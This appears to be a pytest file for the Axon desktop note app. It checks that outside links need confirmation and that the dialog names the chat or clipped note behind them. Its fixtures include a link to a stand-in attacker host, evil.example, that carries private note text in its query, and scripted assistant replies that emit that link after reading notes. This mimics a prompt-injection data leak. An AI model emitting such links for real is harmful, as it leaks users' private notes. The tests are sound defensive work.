"""Addresses are opened outside Axon after a question: where they lead, and whose words may have led there."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from PySide6.QtCore import QObject, Qt, QUrl, Slot
from PySide6.QtGui import QDesktopServices
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication, QLabel

from axon_desktop.ui.widgets.command_box import CommandBox
from axon_desktop.ui.widgets.confirm_dialog import Question
from tests.ui.chat_world import Run, call
from tests.ui.obsidian_window import VaultWindow, vault_window
from tests.waiting import until

pytestmark = pytest.mark.qt_log_ignore(r"propagateSizeHints|raise\(\)")

LINKS = json.loads((Path(__file__).parents[2] / "data" / "outside_links.json").read_text("utf-8"))
NOTES = {
    "Home.md": "# Home\n[own](https://own.example/)\n",
    "Plan.md": "The launch is in May.",
    "Clippings/Tea.md": "Tea. [more](https://tea.example/)\n",
}
LEAK = "https://evil.example/?q=The%20launch%20is%20in%20May"
REPLIES = [
    f"Nothing was read: [here]({LEAK})",
    call("read_note", path="Plan"),
    f"It is in May. [Details]({LEAK})",
    call("read_note", path="Clippings/Tea"),
    f"About tea. [Details]({LEAK})",
    call("create_note", path="Made", content=f"[Details]({LEAK})"),
    "Done.",
]


def texts(box: Question) -> str:
    return "\n".join(label.text() for label in box.findChildren(QLabel))


async def asked(world: VaultWindow, link: str, source: str | None = None) -> Question:
    """Follow a link of a note, or of the conversation by its own click, and return the question."""
    if source is None:
        panel = world.window.chat_panel
        assert panel is not None
        panel.view.link_activated.emit(link)
    else:
        world.window.preview.open_note(source)
        await world.shows(source)
        world.window.preview.body.link_activated.emit(link, False)
    return await world.dialog(Question)


async def refuse(world: VaultWindow, box: Question) -> str:
    """Close the question as Escape does, and return its texts."""
    said = texts(box)
    box.reject()
    await until(lambda: not world.window.findChildren(Question))
    return said


def test_question_names_whose_words_may_have_led_there(qapp: QApplication, tmp_path: Path, run_async: Run) -> None:
    opened: list[str] = []

    class Browser(QObject):
        @Slot(QUrl)
        def take(self, url: QUrl) -> None:
            opened.append(url.toString(QUrl.ComponentFormattingOption.FullyEncoded))

    async def body() -> None:
        async with vault_window(qapp, tmp_path, NOTES, replies=REPLIES) as world:
            for prompt in ("hello", "when is the launch?"):
                await world.say(prompt)
                box = await asked(world, LEAK)
                assert not box.accept_button.isDefault(), "a mere Enter does not open it"
                said = await refuse(world, box)
                assert "evil.example" in said
                assert "elsewhere" not in said
            await world.say("what is tea?")
            box = await asked(world, LEAK)
            assert "Clippings/Tea.md (clipped)" in texts(box)
            assert "Clippings/Tea.md" in box.accessibleDescription()
            assert LEAK in box.accessibleDescription()
            QTest.keyClick(box, Qt.Key.Key_Escape)
            await until(lambda: not world.window.findChildren(Question))
            assert opened == []

            assert "elsewhere" not in await refuse(world, await asked(world, "https://own.example/", "Home.md"))
            said = await refuse(world, await asked(world, "https://tea.example/", "Clippings/Tea.md"))
            assert "Clippings/Tea.md (clipped)" in said

            world.session.set_safety("apply")
            await world.say("make a note Made with it")
            box = await asked(world, LEAK, "Made.md")
            assert "Clippings/Tea.md (clipped)" in texts(box)
            box.accept_button.click()
            await until(lambda: opened)
            assert opened == [LEAK]

    browser = Browser()
    for scheme in ("https", "http", "mailto"):
        QDesktopServices.setUrlHandler(scheme, browser, "take")  # type: ignore[arg-type]  # its stub says bytes
    try:
        run_async(body())
    finally:
        for scheme in ("https", "http", "mailto"):
            QDesktopServices.unsetUrlHandler(scheme)


def test_where_it_leads_stands_first_and_all_of_it_is_shown(
    qapp: QApplication, tmp_path: Path, run_async: Run
) -> None:
    async def body() -> None:
        async with vault_window(qapp, tmp_path, NOTES) as world:
            for row in LINKS:
                link, to = row["link"], row["to"]
                if to is None:
                    world.window.status.show_message("")
                    world.window.preview.links.follow(link)
                    await until(lambda: world.said)
                    assert "not a valid address" in world.said or "does not open this kind" in world.said, link
                    continue
                world.window.preview.links.follow(link)
                box = await world.dialog(Question)
                said = [label.text() for label in box.findChildren(QLabel)]
                assert said[1] == f"It leads to {to}.", link
                address = box.findChild(CommandBox)
                assert address is not None
                assert address.toPlainText() == row.get("whole", link), link
                assert any("other scripts" in words for words in said) is row.get("alike", False), link
                assert box.height() < world.window.height(), link
                await refuse(world, box)

    run_async(body())
